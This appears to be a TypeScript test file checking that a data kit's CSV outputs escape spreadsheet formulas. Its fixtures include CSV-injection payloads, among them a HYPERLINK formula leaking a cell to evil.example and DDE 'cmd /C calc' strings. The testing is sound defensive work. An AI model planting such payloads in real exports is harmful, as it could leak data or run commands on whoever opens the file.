// No formulas in any CSV the kit writes (issue 20): a MADE-UP reply whose authority and labels are
// spreadsheet formulas goes into records.csv, the explorer's table and a transcription template;
// each file is then opened with a spreadsheet library (SheetJS) and no cell may be a formula, every
// text must read as written (behind the one guarding quote), and numbers stay numbers.
import assert from "node:assert/strict";
import {test} from "node:test";
import * as XLSX from "@e965/xlsx";
import {parseReplyText} from "../../../src/lib/parse/reply.js";
import {parseTranscription, transcriptionTemplate} from "../../../src/lib/parse/transcription.js";
import {pivot} from "../../../src/lib/pivot/pivot.js";
import {pivotCsv} from "../../../src/lib/pivot/pivot-csv.js";
import {formulaSafe, safeCsvFormat, unguardFormula} from "../../../src/lib/core/csv.js";
import {RECORD_COLUMNS, tidyRecords} from "../../../src/lib/records/tidy.js";
import {loadMappings} from "../../../src/lib/read/replies.js";
import type {ReplyMeta} from "../../../src/lib/core/types.js";
import {madeUpMeta} from "../../../tools/fixtures/made-up-meta.js";

const mappings = loadMappings();
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0"
];
const authority = "=1+1 made-up council";
const meta: ReplyMeta = JSON.parse(madeUpMeta(authority, {attribution: "=cmd|' /C calc'!A0"}));
const text = [
  "Age group\tOutcome\tNumber of employees",
  ...HOSTILE.map((outcome, i) => `${["16-24", "25-34", "35-44", "45-54"][i]}\t${outcome}\t${i + 1}`),
  "Total\t\t10"
].join("\n");
const reply = parseReplyText({
  file: "responses/made-up.txt",
  text,
  meta,
  mappings,
  source: {format: "text", encoding: "utf-8", textSource: "as received"}
});

/** Every cell of a CSV opened as a spreadsheet opens it. */
function cells(csv: string): XLSX.CellObject[] {
  const sheet = XLSX.read(csv, {type: "string"}).Sheets.Sheet1;
  return Object.entries(sheet)
    .filter(([address]) => !address.startsWith("!"))
    .map(([, cell]) => cell as XLSX.CellObject);
}

/** No cell is a formula, and every hostile text is there, as text, behind one quote. */
function assertNoFormula(csv: string, what: string, expected: string[]) {
  const all = cells(csv);
  for (const cell of all) {
    assert.equal(cell.f, undefined, `${what}: a formula in ${JSON.stringify(cell)}`);
    if (cell.t === "s") assert.doesNotMatch(String(cell.v), /^[=+\-@\t\r]/, `${what}: unguarded ${cell.v}`);
  }
  const texts = all.filter((c) => c.t === "s").map((c) => String(c.v));
  for (const value of expected) assert.ok(texts.includes(`'${value}`), `${what}: ${value} kept as text`);
}

test("the reply's labels are formulas, and the reader kept them as written", () => {
  assert.deepEqual(
    reply.records.map((r) => r.outcomeRaw),
    HOSTILE
  );
  // The control: written without the guard, the spreadsheet library does see a formula.
  assert.ok(
    cells(`a\n"${HOSTILE[0].replace(/"/g, '""')}"\n`).some((c) => c.f !== undefined),
    "the test can fail"
  );
});

test("records.csv has no formula, and its numbers stay numbers", () => {
  const csv = safeCsvFormat(tidyRecords([reply]), RECORD_COLUMNS);
  assertNoFormula(csv, "records.csv", [...HOSTILE, authority]);
  const counts = cells(csv).filter((c) => c.t === "n");
  assert.ok(counts.length >= HOSTILE.length, "counts and lines are numbers");
});

test("the explorer's CSV has no formula", () => {
  const byOutcome = pivot(reply.records, {rows: "outcome", cols: "authority"});
  // An outcome that maps to none is kept in lower case: the explorer's keys are those.
  assertNoFormula(pivotCsv(byOutcome), "explorer CSV", [...HOSTILE.map((o) => o.toLowerCase()), authority]);
});

test("a transcription template has no formula, and reads back as the reply wrote it", () => {
  const template = transcriptionTemplate(reply);
  assertNoFormula(template, "transcription template", HOSTILE);
  const back = parseTranscription(template, "responses/made-up.transcribed.csv", {
    reply: "responses/made-up.txt",
    authority,
    mappings
  });
  assert.deepEqual(
    back.records.map((r) => r.outcomeRaw),
    HOSTILE
  );
});

test("numbers are never quoted; the guard comes off what it was put on", () => {
  for (const number of ["-3", "12", "+1.5", "-0.25", "1e3"]) assert.equal(formulaSafe(number), number);
  for (const text of ["-", "--", "- 3", "+", "@", "\tx", "\rx", "=1"]) {
    assert.equal(formulaSafe(text), `'${text}`);
    assert.equal(unguardFormula(formulaSafe(text)), text);
  }
  assert.equal(formulaSafe("Leicester"), "Leicester");
  assert.equal(unguardFormula("'ordinary quote"), "'ordinary quote");
});
